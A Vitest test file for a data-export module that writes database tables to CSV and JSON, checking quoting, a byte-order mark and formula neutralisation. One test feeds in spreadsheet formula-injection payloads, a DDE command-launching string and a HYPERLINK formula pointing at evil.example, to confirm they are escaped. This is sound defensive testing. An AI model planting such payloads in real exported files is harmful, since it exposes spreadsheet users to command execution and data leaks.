import { describe, expect, it } from "vitest";
import { tablesToCsv, tablesToJson } from "./data-export.ts";

describe("the data export (decision 0028)", () => {
  it("writes every field of every row in long form, quoted where needed, with a BOM for spreadsheets", () => {
    const csv = tablesToCsv({
      Konto: [{ id: 7, firstName: "Jürgen", note: 'Sagt "Hallo"; tschüss', createdAt: new Date("2026-11-24T10:00:00Z"), roles: ["Role_Customer"], phone: null }],
      Adressen: [],
      Nachrichten: [{ id: 1, title: "Zeile\nzwei" }, { id: 2, title: "b" }],
    });
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.slice(1)).toBe(
      [
        "Tabelle;Zeile;Feld;Wert",
        "Konto;1;id;7",
        "Konto;1;firstName;Jürgen",
        'Konto;1;note;"Sagt ""Hallo""; tschüss"',
        "Konto;1;createdAt;2026-11-24T10:00:00.000Z",
        'Konto;1;roles;"[""Role_Customer""]"',
        "Konto;1;phone;",
        "Nachrichten;1;id;1",
        'Nachrichten;1;title;"Zeile\nzwei"',
        "Nachrichten;2;id;2",
        "Nachrichten;2;title;b",
        "",
      ].join("\r\n"),
    );
  });

  it("neutralises text that a spreadsheet would run as a formula; numbers stay numbers (decision 0038)", () => {
    const csv = tablesToCsv({ Adressen: [{ city: "@SUM(1+1)*cmd|'/C calc'!A0", lastName: '=HYPERLINK("http://evil.example/?x","Klick")', temperature: -3.5, note: "-3,5" }] });
    expect(csv.slice(1).split("\r\n")).toEqual([
      "Tabelle;Zeile;Feld;Wert",
      "Adressen;1;city;'@SUM(1+1)*cmd|'/C calc'!A0",
      `Adressen;1;lastName;"'=HYPERLINK(""http://evil.example/?x"",""Klick"")"`,
      "Adressen;1;temperature;-3,5",
      "Adressen;1;note;'-3,5",
      "",
    ]);
  });

  it("writes JSON with the export time and one key per table", () => {
    const json = JSON.parse(tablesToJson({ Konto: [{ id: 1 }] }, new Date("2026-11-24T10:00:00Z")));
    expect(json).toEqual({ Exportiert: "2026-11-24T10:00:00.000Z", Tabellen: { Konto: [{ id: 1 }] } });
  });
});
